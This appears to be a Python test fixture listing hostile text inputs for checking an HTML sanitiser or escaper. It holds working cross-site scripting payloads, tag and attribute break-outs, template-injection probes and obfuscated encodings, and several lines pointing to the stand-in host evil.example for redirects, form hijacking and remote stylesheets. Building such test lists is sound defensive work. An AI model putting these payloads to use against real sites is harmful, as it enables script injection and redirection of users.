"""Texts that attack: markup, addresses, signs that turn a line round, and signs that are none."""

from __future__ import annotations

_CODE = "window.attacked=1"
TEXTS = [
    f"<script>{_CODE}</script>", f"<ScRiPt >{_CODE}</sCrIpT>", f"<script/src=data:,{_CODE}>",
    f"<img src=x onerror={_CODE}>", f'<img src=x onerror="{_CODE}">', f"<svg onload={_CODE}>",
    f"<svg/onload={_CODE}>", f"<svg><script>{_CODE}</script></svg>", f"<body onload={_CODE}>",
    f"<input autofocus onfocus={_CODE}>", f"<details open ontoggle={_CODE}>",
    f"<iframe srcdoc='<script>parent.{_CODE}</script>'>", "<iframe src=javascript:alert(1)>",
    f"<object data='data:text/html,<script>{_CODE}</script>'>", "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>lien</a>", "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/a.css>", "<style>*{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<form action=//evil.example>",
    "<math><mtext><mglyph><style><img src=x onerror=alert(1)>", "<xss-element>x</xss-element>",
    f'" onmouseover="{_CODE}', f"' onmouseover='{_CODE}", f'"><script>{_CODE}</script>',
    f"'><script>{_CODE}</script>", f"</title><script>{_CODE}</script>",
    f"</textarea><script>{_CODE}</script>", f"</option></select><img src=x onerror={_CODE}>",
    f"</script><script>{_CODE}</script>", f"--><script>{_CODE}</script>", f"]]><script>{_CODE}//",
    "{{ 7*7 }}", "{% raw %}{{ config }}{% endraw %}", "${7*7}", "<%= 7*7 %>", "#{7*7}",
    "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "&lt;script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;", "\\u003cscript\\u003e", "%3Cscript%3E",
    "＜script＞alert(1)＜/script＞", "<scr\u200bipt>alert(1)</script>", "\u202e<txet>\u202c",
    "\u2066<b>\u2069", "<\u0000script>", "a\u0007b\u001bc<u>", "<hx hx-get=//evil.example>",
    "<p hx-on:load='alert(1)'>",
]  # fmt: skip
